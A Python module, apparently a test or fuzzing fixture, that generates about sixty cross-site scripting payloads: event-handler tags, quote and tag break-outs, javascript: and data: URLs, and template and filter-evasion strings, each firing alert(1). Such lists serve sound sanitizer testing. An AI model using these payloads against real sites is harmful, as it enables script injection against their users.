"""Sixty ways to smuggle a script into a text, for every field and every surface."""

_CALL = "alert(1)"
_EVENTS = ("onerror", "onload", "onfocus autofocus", "onmouseover", "ontoggle open", "onanimationstart", "onbegin")
_TAGS = (
    "img src=x",
    "svg",
    "input",
    "body",
    "details",
    "video src=x",
    "iframe src=x",
    "math",
    "marquee",
    "audio src=x",
)

_INLINE = [f"<{tag} {event}={_CALL}>" for tag, event in zip(_TAGS * 2, _EVENTS * 3, strict=False)][:20]
_BREAKING_OUT = [
    f'"><script>{_CALL}</script>',
    f"'><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>",
    f'" autofocus onfocus={_CALL} x="',
    f"' autofocus onfocus={_CALL} x='",
    f'" onmouseover="{_CALL}',
    f"`-{_CALL}-`",
    f"';{_CALL};//",
    f'";{_CALL};//',
    f"\\';{_CALL};//",
    f"</option></select><script>{_CALL}</script>",
    f"</td></tr></table><script>{_CALL}</script>",
    f"</noscript><script>{_CALL}</script>",
    f"&quot;><script>{_CALL}</script>",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
]
_ADDRESSES = [
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"java\tscript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    f"<a href='javascript:{_CALL}'>a</a>",
    f"<iframe srcdoc='<script>{_CALL}</script>'>",
    f"<object data='javascript:{_CALL}'>",
    f"<embed src='javascript:{_CALL}'>",
    f"<form action='javascript:{_CALL}'><button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
]
_TEMPLATES = [
    "{{ 7|add:7 }}{% debug %}",
    "{% load i18n %}{% csrf_token %}",
    f"${{{_CALL}}}",
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    f"<script>{_CALL}</script>",
    f"<ScRiPt >{_CALL}</sCrIpT>",
    f"<scr<script>ipt>{_CALL}</script>",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"\u2028<script>{_CALL}</script>",
    f"\u202e<script>{_CALL}</script>",
]
PAYLOADS = [*_INLINE, *_BREAKING_OUT, *_ADDRESSES, *_TEMPLATES]
